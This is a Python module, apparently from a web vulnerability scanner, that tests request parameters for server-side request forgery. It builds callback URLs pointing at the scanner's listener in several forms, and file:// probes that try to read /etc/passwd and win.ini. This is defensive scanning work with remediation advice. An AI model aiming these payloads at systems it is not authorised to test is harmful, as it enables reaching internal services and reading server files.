"""Server-side request forgery (``ssrf``): the server fetches a URL or contacts a host taken from input.

detection.md §8.2. Gate: the value is URL-like (``scheme://``, ``//``), host-like (``api.example.com``,
``10.0.0.5:8080``), or the parameter is named like one (``url``, ``path``, ``host``, ``next``,
``callback``, ``webhook``, ...). A thorough policy (``full``) also sends every other string or number
value the listener's URL, once (headers such as ``Referer`` or ``X-Forwarded-Host`` are fetched by
analytics and proxies).

Out-of-band first (the node's own listener, :mod:`lunge.checks.callbacks`), one batch:

- ``url``: ``http://<listener>/<token>``;
- ``scheme-less``: ``<listener>/<token>``, for a fetcher that prepends its own ``http://``;
- ``userinfo``: ``@<listener>/<token>`` for a path value, for a fetcher that prepends its own
  ``http://internal-host`` (the host becomes user information);
- ``named``: ``http://<token>.<oob domain>:<port>/<token>`` when the DNS listener is on.

A hit is an HTTP callback carrying the token, or the listener's token-derived body coming back in the
response (a full-read SSRF). DNS lookups alone are never a hit: resolvers, validators and link
previewers resolve names they never fetch. A hit is confirmed by the same form with a fresh token.
With no callback before the response, each attack stays awaited (a queued fetch calls back later).

In-band, without the listener: ``file:///etc/passwd`` (or ``win.ini`` on Windows servers), judged by
the content signature of :mod:`lunge.checks.traversal`'s files, absent from the normal responses,
confirmed by a second file and a negative control (a missing file must not show the signature).
"""

from __future__ import annotations

import re
from collections.abc import Generator
from dataclasses import dataclass

from lunge.checks import callbacks, pointnames, traversal
from lunge.checks.base import Attack, Check, CheckContext, Confidence, Exchange, Probe, Severity, Verdict
from lunge.checks.callbacks import OobEndpoint
from lunge.checks.noise import strip_reflections
from lunge.http.points import Point, ValueKind

NAME_WORDS = frozenset({
    "url", "uri", "link", "href", "src", "source", "path", "host", "hostname", "domain", "site", "server",
    "endpoint", "callback", "webhook", "hook", "next", "feed", "proxy", "fetch", "image", "img", "avatar",
    "icon", "remote", "address", "addr", "preview", "load", "target", "dest", "destination", "origin",
})
_URLISH = re.compile(r"^(?:[a-zA-Z][a-zA-Z0-9+.\-]*://|//)")
_HOSTISH = re.compile(r"^(?:(?:[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?\.)+[A-Za-z]{2,24}"
                      r"|\d{1,3}(?:\.\d{1,3}){3})(?::\d{1,5})?(?:/\S*)?\Z")
_WINDOWS = re.compile(r"microsoft-iis|asp\.net|win(?:32|64|dows)", re.IGNORECASE)
# Last labels that make a "host" a file name (report.txt) rather than a host.
_FILE_SUFFIXES = frozenset({
    "txt", "pdf", "html", "htm", "php", "asp", "aspx", "jsp", "jpg", "jpeg", "png", "gif", "svg", "json", "xml",
    "css", "js", "csv", "doc", "docx", "xls", "xlsx", "zip", "gz", "tar", "md", "log", "ini", "conf", "yaml", "yml",
})


@dataclass(frozen=True, slots=True)
class _Form:
    name: str
    build: str  # url | bare | userinfo | named


def _applies(ctx: CheckContext) -> bool:
    point = ctx.point
    if point.family in ("URI", "PATH", "ACTION_NAME", "ACTION_EXT"):
        return False
    if point.kind is ValueKind.STRING and (url_like(point.value) or host_like(point.value) or named_like_url(point)):
        return True
    # A thorough policy tries every other value too: one listener URL each, when the listener is on.
    return ctx.thorough and ctx.oob is not None and point.kind in (ValueKind.STRING, ValueKind.NUMBER)


def _gated(ctx: CheckContext) -> bool:
    value = ctx.point.value
    return ctx.point.kind is ValueKind.STRING and (url_like(value) or host_like(value) or named_like_url(ctx.point))


def url_like(value: str) -> bool:
    return bool(_URLISH.match(value))


def host_like(value: str) -> bool:
    """``api.example.com``, ``10.0.0.5:8080``, ``cdn.example.com/a.png``; not ``report.txt``.

    >>> host_like("api.example.com:8443"), host_like("10.0.0.5"), host_like("report.txt")
    (True, True, False)
    """
    if not _HOSTISH.match(value):
        return False
    host = value.split("/", 1)[0].split(":", 1)[0]
    return host.rsplit(".", 1)[-1].lower() not in _FILE_SUFFIXES or "/" in value


def named_like_url(point: Point) -> bool:
    return pointnames.named_like(point, NAME_WORDS)


# ---------------------------------------------------------------------------- run
def _run(ctx: CheckContext) -> Probe:
    verdicts: list[Verdict] = []
    gated = _gated(ctx)
    if ctx.oob is not None:
        verdicts = yield from _out_of_band(ctx, ctx.oob, gated)
        if any(not isinstance(v, callbacks.Deferred) for v in verdicts):
            return verdicts
    if not gated:
        return verdicts
    read = yield from _file_read(ctx)
    return [read] if read is not None else verdicts


def _forms(ctx: CheckContext, oob: OobEndpoint, gated: bool) -> list[_Form]:
    value = ctx.point.value
    forms = [_Form("url", "url")]
    if not gated:
        return forms
    if not url_like(value):
        forms.append(_Form("scheme-less", "bare"))
    if value.startswith("/") and not value.startswith("//"):
        forms.append(_Form("userinfo", "userinfo"))
    if oob.domain and (url_like(value) or host_like(value)):
        forms.append(_Form("named", "named"))
    return forms[:1] if ctx.light else forms


def _payload(oob: OobEndpoint, form: _Form, tok: str) -> str:
    if form.build == "bare":
        return f"{oob.authority()}/{tok}"
    if form.build == "userinfo":
        return f"@{oob.authority()}/{tok}"
    if form.build == "named":
        return oob.named_url(tok) or oob.url(tok)
    return oob.url(tok)


def _out_of_band(ctx: CheckContext, oob: OobEndpoint,
                 gated: bool) -> Generator[list[Attack], list[Exchange], list[Verdict]]:
    forms = _forms(ctx, oob, gated)
    tokens = [callbacks.token(ctx) for _ in forms]
    batch = [callbacks.attack(ctx, _payload(oob, f, t), t, f.name) for f, t in zip(forms, tokens, strict=True)]
    exchanges = yield batch
    for form, exchange in zip(forms, exchanges, strict=True):
        if _hit(oob, exchange) is None:
            continue
        again = callbacks.token(ctx)
        (confirm,) = yield [callbacks.attack(ctx, _payload(oob, form, again), again, "confirm")]
        proof = _hit(oob, confirm)
        if proof is None:
            continue
        return [_verdict(ctx, oob, form, exchange, confirm, exchanges)]
    return [callbacks.deferred(SSRF, ctx, e, (e.attack.token,), f"the {f.name} form of the listener's URL",
                               {"form": f.name}) for f, e in zip(forms, exchanges, strict=True)]


def _hit(oob: OobEndpoint, exchange: Exchange) -> str | None:
    """What proves the fetch: the listener's body in the response, else the HTTP callback."""
    body = oob.body(exchange.attack.token)
    if body in exchange.text:
        return body
    http = callbacks.http_callbacks(exchange)
    return callbacks.proof_line(http[0]) if http else None


def _verdict(ctx: CheckContext, oob: OobEndpoint, form: _Form, hit: Exchange, confirm: Exchange,
             batch: list[Exchange]) -> Verdict:
    body = oob.body(hit.attack.token)
    full_read = body in hit.text
    http = callbacks.http_callbacks(hit)
    how = ("the listener's unique body came back in the response" if full_read
           else "the target called the listener back over HTTP with the attack's token")
    return SSRF.verdict(
        ctx, hit, proof=body if full_read else (callbacks.proof_line(http[0]) if http else body),
        confidence=Confidence.CERTAIN if full_read and http else Confidence.FIRM,
        confirmation=f"{how}; a second attack with a fresh token ({confirm.attack.token}) was fetched as well",
        controls=(ctx.normal, *[e for e in batch if e is not hit], confirm),
        details={"form": form.name, "full_read": full_read, "listener": oob.authority(),
                 "oob": [i.summary() for i in hit.interactions],
                 "confirm_oob": [i.summary() for i in confirm.interactions]},
    )


# ---------------------------------------------------------------------------- file:// (in-band)
def _file_read(ctx: CheckContext) -> Generator[list[Attack], list[Exchange], Verdict | None]:
    normal = [r.text for r in ctx.replays if r.response is not None]
    if ctx.recorded is not None:
        normal.append(ctx.recorded.text())
    usable = [f for f in traversal.TABLE.files if not any(f.pattern().search(t) for t in normal)]
    windows = windows_server(ctx)
    usable.sort(key=lambda f: f.os != ("windows" if windows else "unix"))
    if not usable:
        return None
    first = usable[0]
    (hit,) = yield [ctx.attack(file_url(first.path), "file-url")]
    proof = file_signature(hit, first)
    if proof is None:
        return None
    second = traversal.TABLE.file(first.confirm_with)
    (confirm,) = yield [ctx.attack(file_url(second.path), "confirm")]
    missing = f"{first.path.rpartition('/')[0]}/{ctx.marker(8)}"
    (control,) = yield [ctx.attack(file_url(missing), "control")]
    if file_signature(confirm, second) is None or file_signature(control, first) is not None:
        return None
    return SSRF.verdict(
        ctx, hit, proof=proof, confidence=Confidence.FIRM,
        confirmation=(f"{file_url(second.path)} was read as well, while the missing file {file_url(missing)} "
                      f"did not show the {first.name} signature"),
        controls=(ctx.normal, confirm, control),
        details={"form": "file-url", "file": first.path, "signature": first.signature},
    )


def windows_server(ctx: CheckContext) -> bool:
    """Whether the normal response's banner names a Windows server (IIS, ASP.NET)."""
    response = ctx.normal.response
    if response is None:
        return False
    banner = " ".join(response.headers.get(h) or "" for h in ("server", "x-powered-by", "x-aspnet-version"))
    return bool(_WINDOWS.search(banner))


def file_url(path: str) -> str:
    """A local file as a ``file://`` URL (also what ``xxe`` puts in its external entities)."""
    return f"file:///{path}"


def file_signature(exchange: Exchange, known: traversal.KnownFile) -> str | None:
    """The known file's content signature in the answer, the attack's own payload removed first."""
    text = strip_reflections(exchange.text, [exchange.attack.payload])
    match = known.pattern().search(text)
    return match.group(0) if match else None


SSRF = Check(
    id="ssrf",
    title="Server-side request forgery",
    kind="ssrf",
    severity=Severity.HIGH,
    cwe=918,
    description="The server fetches a URL or contacts a host taken from the request, so an attacker can make it "
                "reach internal services, cloud metadata or local files on their behalf.",
    run=_run,
    applies=_applies,
    remediation="Fetch only URLs whose scheme, host and port are on an allow-list, resolved once and checked "
                "after resolution (no redirects to other hosts); never accept file:// or other schemes.",
    uses_oob=True,
)
CHECKS = (SSRF,)
